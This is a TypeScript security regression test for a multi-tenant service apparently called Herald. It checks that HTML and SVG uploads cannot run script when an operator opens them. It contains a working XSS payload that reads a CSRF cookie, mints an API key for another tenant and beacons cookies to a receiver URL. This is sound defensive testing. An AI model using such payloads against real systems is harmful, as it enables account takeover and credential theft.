// A tenant uploads HTML and SVG records that try to take over the operator (read the CSRF
// cookie, mint an API key for another tenant, beacon the cookies out). An operator signed in to
// the dashboard opens the records' download links in real Chromium: no script may run, no API
// call may be made. (Before: the record rendered on Herald's origin and the key was minted, 201.)
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { launchChromium } from '../../server/test/browser.js';
import { createTenant, startHerald, startReceiver, type Receiver, type TestHerald } from '../../server/test/helpers.js';

let h: TestHerald;
let beacon: Receiver;
let browser: Browser;

before(async () => {
  h = await startHerald();
  beacon = await startReceiver();
  browser = await launchChromium();
});
after(async () => {
  await browser?.close();
  await beacon?.close();
  await h?.close();
});

function takeover(victimTenant: string): string {
  return `
    document.title = 'pwned';
    const csrf = (document.cookie.match(/herald_csrf=([^;]+)/) || [])[1] || '';
    fetch('/api/v1/tenants/${victimTenant}/api-keys', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json', 'x-csrf-token': csrf }, body: JSON.stringify({ environment: 'live', name: 'stolen' }) })
      .then((r) => r.text()).then((t) => { new Image().src = '${beacon.url}/exfil?' + encodeURIComponent(t); });
    new Image().src = '${beacon.url}/cookies?' + encodeURIComponent(document.cookie);`;
}

test('HTML and SVG records opened by a signed-in operator run no script and make no API call', async () => {
  const attacker = await createTenant(h, 'Attacker');
  const victim = await createTenant(h, 'Victim');
  const app = (await h.call('POST', '/api/v1/app', { token: attacker.test, body: { name: 'Payloads' } })).body.id as string;
  const records = {
    'text/html': `<!doctype html><html><body><h1>invoice</h1><script>${takeover(victim.id)}</script></body></html>`,
    'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="${takeover(victim.id).replace(/"/g, '&quot;')}"><script>${takeover(victim.id).replace(/</g, '&lt;')}</script><rect width="10" height="10"/></svg>`,
  };
  const links: string[] = [];
  for (const [type, body] of Object.entries(records)) {
    const up = await fetch(`${h.url}/api/v1/app/${app}/records`, { method: 'POST', headers: { authorization: `Bearer ${attacker.test}`, 'content-type': type }, body });
    assert.equal(up.status, 201);
    const { record_id } = (await up.json()) as { record_id: string };
    links.push((await h.call('GET', `/api/v1/app/${app}/records/${record_id}`, { token: attacker.test })).body.download_url);
  }
  const keysBefore = (await h.admin('GET', `/api/v1/tenants/${victim.id}/api-keys`)).body.data.length;

  const context = await browser.newContext({ baseURL: h.url, acceptDownloads: true });
  try {
    // The operator is signed in: the session and CSRF cookies are in this browser.
    const signIn = await context.request.post('/api/v1/session', { data: { token: 'test-admin-token' } });
    assert.equal(signIn.status(), 201);
    assert.ok((await context.cookies()).some((c) => c.name === 'herald_csrf'));
    const page = await context.newPage();
    // API calls a record's document could make (the dashboard's own page makes some too).
    const apiCalls: string[] = [];
    context.on('request', (r) => {
      if (new URL(r.url()).pathname.startsWith('/api/') && r.frame().url().includes('/records/')) apiCalls.push(`${r.method()} ${r.url()}`);
    });

    for (const link of links) {
      // Opened directly: Chromium downloads it instead of rendering it.
      const download = page.waitForEvent('download');
      await page.goto(link).catch(() => undefined);
      const file = await download;
      assert.equal(file.suggestedFilename().startsWith('rec_'), true);
      // Framed in a dashboard page (Herald's own origin, whose CSP allows same-origin frames): still a download, still inert.
      await page.goto('/');
      await page.waitForLoadState('networkidle');
      const framed = page.waitForEvent('download');
      await page.evaluate((src) => {
        const f = document.createElement('iframe');
        f.src = src;
        document.body.appendChild(f);
      }, link);
      await framed;
    }
    await page.waitForTimeout(500);
    assert.notEqual(await page.title(), 'pwned');
    assert.deepEqual(apiCalls, [], 'the records made no API call');
    assert.equal(beacon.received.length, 0, `nothing was sent out: ${beacon.received.map((r) => r.path).join(', ')}`);
    assert.equal((await h.admin('GET', `/api/v1/tenants/${victim.id}/api-keys`)).body.data.length, keysBefore, "no key was minted for the victim");
  } finally {
    await context.close();
  }
});
